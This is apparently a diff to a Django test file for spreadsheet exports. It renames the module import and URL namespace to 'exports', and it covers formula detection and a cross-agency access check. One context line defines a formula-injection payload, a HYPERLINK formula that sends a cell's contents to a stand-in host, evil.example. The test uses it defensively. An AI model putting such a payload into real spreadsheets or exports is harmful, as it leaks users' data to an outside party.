@@ -7,7 +7,7 @@ import pytest
 from django.urls import reverse
 from openpyxl import load_workbook
 
-from project.xlsx import csv_text, looks_like_formula
+from exports.xlsx import csv_text, looks_like_formula
 
 pytestmark = pytest.mark.django_db
 
@@ -15,7 +15,7 @@ EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"x")'
 
 
 def download(client, kind, **params):
-    response = client.get(reverse("documents:spreadsheet", args=[kind]), params)
+    response = client.get(reverse("exports:spreadsheet", args=[kind]), params)
     assert response.status_code == 200, response.status_code
     return load_workbook(io.BytesIO(b"".join(response.streaming_content)))
 
@@ -59,7 +59,7 @@ def test_an_officer_cannot_take_another_agencys_scorecard_line(
     make_task()
     client.force_login(officer)
     other = client.get(
-        reverse("documents:spreadsheet", args=["scorecards"]), {"agency": border_guard.code}
+        reverse("exports:spreadsheet", args=["scorecards"]), {"agency": border_guard.code}
     )
     assert other.status_code == 404  # as the PDF answers
     own = download(client, "scorecards", agency=officer.agency.code)
